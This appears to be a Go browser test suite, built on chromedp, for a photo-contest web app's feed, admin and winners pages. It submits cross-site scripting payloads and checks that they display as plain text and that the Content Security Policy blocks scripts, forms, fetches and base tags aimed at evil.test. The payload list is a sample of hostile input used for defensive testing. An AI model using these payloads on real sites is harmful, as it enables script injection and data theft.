package browser

import (
	"context"
	"encoding/json"
	"net/http"
	"path/filepath"
	"podium/test/harness"
	"slices"
	"testing"

	"github.com/chromedp/chromedp"
)

// hostile are texts that would do harm where a page puts them into its markup.
var hostile = []string{
	`<img src=x onerror="window.hacked=1">`,
	`<form action="http://evil.test/"><input name=phone><button id=evil>Send</button></form>`,
	`<style>body{display:none}</style>`,
	`<meta http-equiv="refresh" content="0;url=http://evil.test/">`,
	`" onmouseover="window.hacked=1" style="position:fixed;inset:0`,
	`' onclick='window.hacked=1`,
	`<script>window.hacked=1</script><a href="javascript:window.hacked=1">x</a>`,
	`<img src="http://evil.test/pixel.png"><link rel=stylesheet href="http://evil.test/a.css">`,
	`&lt;b&gt; &amp; ${window.hacked=1} {{7*7}}`,
}

// watch notes in each page what its policy refused and what went wrong.
const watch = `window.refused = []; window.failed = []; window.hacked = 0;
document.addEventListener('securitypolicyviolation', e => window.refused.push(e.effectiveDirective + ' ' + e.blockedURI + ' ' + e.sample));
window.addEventListener('error', e => { if (e.message) window.failed.push(e.message) });
window.addEventListener('unhandledrejection', e => window.failed.push(String(e.reason)));`

// tab is a page whose policy may refuse something: its console is not watched, as a window's is.
type tab struct {
	t   *testing.T
	ctx context.Context
}

// newTab opens an empty page with a browser context of its own.
func newTab(t *testing.T) *tab {
	t.Helper()
	ctx, cancel := chromedp.NewContext(shared(t), chromedp.WithNewBrowserContext())
	t.Cleanup(cancel)
	b := &tab{t: t, ctx: ctx}
	b.do(chromedp.EmulateViewport(1000, 1400), beforeEachPage(watch))
	return b
}

func (b *tab) do(actions ...chromedp.Action[chromedp.Void]) {
	b.t.Helper()
	if err := chromedp.Do(b.ctx, actions...); err != nil {
		b.t.Fatal(err)
	}
}

// read evaluates an expression in the page.
func read[T any](b *tab, expression string) T {
	b.t.Helper()
	value, err := chromedp.Run(b.ctx, chromedp.Evaluate[T](expression))
	if err != nil {
		b.t.Fatalf("%s: %v", expression, err)
	}
	return value
}

// until polls an expression of the page.
func (b *tab) until(what, expression string) {
	b.t.Helper()
	harness.Eventually(b.t, what, func() bool {
		return read[bool](b, "!!("+expression+")")
	})
}

// texts are the texts of the elements that selector finds.
func (b *tab) texts(selector string) []string {
	b.t.Helper()
	quoted, _ := json.Marshal(selector) // a string can be encoded
	return read[[]string](b, `[...document.querySelectorAll(`+string(quoted)+`)].map(e => e.textContent)`)
}

// harmless fails the test where the page's policy refused something, a text
// did harm, or something was asked of another server.
func (b *tab) harmless() {
	b.t.Helper()
	// Hover and click every text, as people do.
	read[int](b, `[...document.querySelectorAll('.caption, .name, .phone, .category-name, img')].map(e =>
		['mouseover', 'mouseenter', 'click', 'focus'].map(kind => e.dispatchEvent(new MouseEvent(kind, {bubbles: true, cancelable: true})))).length`)
	if refused := read[[]string](b, "window.refused"); len(refused) > 0 {
		b.t.Errorf("the policy refused what is the page's own: %q", refused)
	}
	if failed := read[[]string](b, "window.failed"); len(failed) > 0 {
		b.t.Errorf("the page's scripts failed: %q", failed)
	}
	type harm struct{ Hacked, Evil, Forms, Styles, Metas, Fixed int }
	found := read[harm](b, `({Hacked: window.hacked, Evil: document.querySelectorAll('#evil').length,
		Forms: document.querySelectorAll('.caption form, .name form, .phone form, #feed form').length,
		Styles: document.querySelectorAll('body style, body link').length,
		Metas: document.querySelectorAll('meta[http-equiv]').length,
		Fixed: [...document.querySelectorAll('*')].filter(e => getComputedStyle(e).position === 'fixed').length})`)
	if found != (harm{}) {
		b.t.Errorf("a text did harm: %+v", found)
	}
	for _, host := range read[[]string](b, `[location.hostname, ...performance.getEntriesByType('resource').map(e => new URL(e.name).hostname)]`) {
		if host != "127.0.0.1" {
			b.t.Errorf("the page asked %s for something", host)
		}
	}
}

// submitHostile sends each hostile text in every field.
func submitHostile(t *testing.T, p *harness.Program) {
	t.Helper()
	for _, text := range hostile {
		body, kind := harness.Form(t, map[string]string{"category": "best", "caption": text, "name": text, "phone": text}, harness.Photo(t, 32, 24))
		var answer map[string]any
		if status := p.Call("POST", "/api/submit", kind, body, &answer); status != http.StatusOK {
			t.Fatalf("submit %q: %d %v", text, status, answer)
		}
	}
}

// sameTexts compares what a page shows with the hostile texts, newest first.
func sameTexts(t *testing.T, where string, got []string) {
	t.Helper()
	want := slices.Clone(hostile)
	slices.Reverse(want)
	if !slices.Equal(got, want) {
		t.Errorf("%s shows %q, want %q", where, got, want)
	}
}

// startOld serves the pages in the old manner.
func startOld(t *testing.T) *harness.Program {
	t.Helper()
	dir, err := filepath.Abs(filepath.Join("testdata", "oldpages"))
	if err != nil {
		t.Fatal(err)
	}
	return harness.Start(t, "--static", dir)
}

func TestOldFeedPageWorksUnchangedAndHostileTextIsText(t *testing.T) {
	t.Parallel()
	p := startOld(t)
	b := newTab(t)
	b.do(chromedp.Navigate(p.URL + "/"))
	b.until("the feed", "document.body.dataset.ready && document.body.dataset.connected && loaded")
	submitHostile(t, p) // these arrive as events
	b.until("all events", `document.querySelectorAll('#feed-best .card').length === 9`)
	sameTexts(t, "the live feed", b.texts("#feed-best .caption"))
	b.until("the pictures", `[...document.images].every(i => i.complete && i.naturalWidth > 0)`)
	b.harmless()

	b.do(chromedp.Reload())
	b.until("the feed again", `document.body.dataset.ready && document.querySelectorAll('#feed-best .card').length === 9`)
	sameTexts(t, "the loaded feed", b.texts("#feed-best .caption"))
	b.do(chromedp.SetValue(chromedp.CSS("[name=caption]"), "From the page & <b>bold</b>"), chromedp.Click(chromedp.CSS("#send")))
	b.until("the answer", `document.getElementById('status').textContent === 'Saved!'`)
	b.until("the page's own entry", `document.querySelector('#feed .caption').textContent === 'From the page & <b>bold</b>'`)
	b.harmless()
}

func TestOldAdminAndWinnersPagesWorkUnchangedAndHostileTextIsText(t *testing.T) {
	t.Parallel()
	p := startOld(t)
	submitHostile(t, p)
	winners := newTab(t)
	winners.do(chromedp.Navigate(p.URL + "/winners.html"))
	winners.until("the winners page", "document.body.dataset.ready")

	b := newTab(t)
	b.do(chromedp.Navigate(p.URL+"/admin"), chromedp.SendKeys(chromedp.CSS("#password"), harness.Password), chromedp.Click(chromedp.CSS("#signIn")))
	b.until("the panel", "document.body.dataset.ready")
	for _, field := range []string{"caption", "name", "phone"} {
		sameTexts(t, "the admin page's "+field, b.texts("#rows ."+field))
	}
	b.harmless()

	// A category that was added a moment ago has a button that works.
	b.do(chromedp.SetValue(chromedp.CSS("#newId"), "loudest"), chromedp.SetValue(chromedp.CSS("#newName"), hostile[0]), chromedp.Click(chromedp.CSS("#add")))
	b.until("the new category", `document.querySelector('#category-loudest .delete') && document.getElementById('message').textContent === 'Categories saved'`)
	if got := b.texts("#category-loudest .category-name"); !slices.Equal(got, hostile[:1]) {
		t.Errorf("the new category is called %q", got)
	}
	b.harmless()
	b.do(chromedp.Click(chromedp.CSS("#category-loudest .delete")))
	b.until("the category's end", `!document.querySelector('#category-loudest') && document.querySelectorAll('#categories li').length === 2`)

	// Picks made with built buttons reach the winners page.
	b.do(chromedp.Click(chromedp.CSS(".entry .pick")), chromedp.Click(chromedp.CSS("#save")))
	b.until("the picks", `document.getElementById('message').textContent === 'Winners saved'`)
	winners.until("the winner", `document.querySelectorAll('.winner').length === 1`)
	if got := winners.texts(".winner .caption"); !slices.Equal(got, hostile[len(hostile)-1:]) {
		t.Errorf("the winner's caption is %q", got)
	}
	winners.harmless()
	b.harmless()
}

func TestThePolicyOfAnOldPageRefusesWhatWasBroughtIn(t *testing.T) {
	t.Parallel()
	p := startOld(t)
	b := newTab(t)
	b.do(chromedp.Navigate(p.URL + "/winners.html"))
	b.until("the page", "document.body.dataset.ready")
	// What somebody brought in despite everything is refused.
	for directive, code := range map[string]string{
		"script-src-elem": `let s = document.createElement('script'); s.src = 'https://evil.test/x.js'; document.body.append(s)`,
		"img-src":         `new Image().src = 'https://evil.test/x.png'`,
		"script-src-attr": `document.body.insertAdjacentHTML('beforeend', '<b onclick="window.hacked=1" id=late>x</b>'); document.getElementById('late').click()`,
		"style-src-elem":  `document.head.insertAdjacentHTML('beforeend', '<style>body{display:none}</style>')`,
		"base-uri":        `document.head.insertAdjacentHTML('beforeend', '<base href="https://evil.test/">')`,
		"connect-src":     `fetch('https://evil.test/').catch(() => {})`,
		"form-action":     `document.body.insertAdjacentHTML('beforeend', '<form id=f action="https://evil.test/"></form>'); document.getElementById('f').submit()`,
	} {
		read[bool](b, "(() => {"+code+"; return true})()")
		b.until(directive+" refuses", `window.refused.some(r => r.startsWith('`+directive+` '))`)
	}
	if read[int](b, "window.hacked") != 0 {
		t.Error("a handler that was brought in ran")
	}
}
